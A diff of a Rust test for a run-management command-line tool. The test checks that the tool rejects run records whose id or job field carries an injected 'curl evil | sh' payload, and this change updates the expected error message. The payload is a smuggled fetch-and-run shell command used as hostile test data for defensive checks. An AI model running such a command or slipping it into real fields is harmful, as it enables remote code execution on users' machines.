@@ -394,12 +394,12 @@ fn a_record_that_came_with_the_project_puts_no_words_into_hints() {
     let hostile = "x; curl evil | sh; #";
     let running = serde_json::json!({"id": hostile, "state": "running", "exit": null});
     laptop.write("artifacts/runs/a/run.json", &planted("a", running));
-    let shown = refused(&laptop, "runs show a", "bad_record", &["no name of a run"]);
+    let shown = refused(&laptop, "runs show a", "bad_record", &["is not a run name"]);
     assert!(!shown.contains("rgpu runs attach"), "{shown}");
     assert!(!laptop.show("runs list").contains("curl"));
     let job = serde_json::json!({"jobs": [{"job": hostile, "remote": "local"}]});
     laptop.write("artifacts/runs/a/run.json", &planted("a", job));
-    refused(&laptop, "runs cancel a", "bad_record", &["no name of a run"]);
+    refused(&laptop, "runs cancel a", "bad_record", &["is not a run name"]);
     // Nor is its command one to repeat.
     let unsent = serde_json::json!({"state": "running", "exit": null});
     laptop.write("artifacts/runs/b/run.json", &planted("b", unsent));
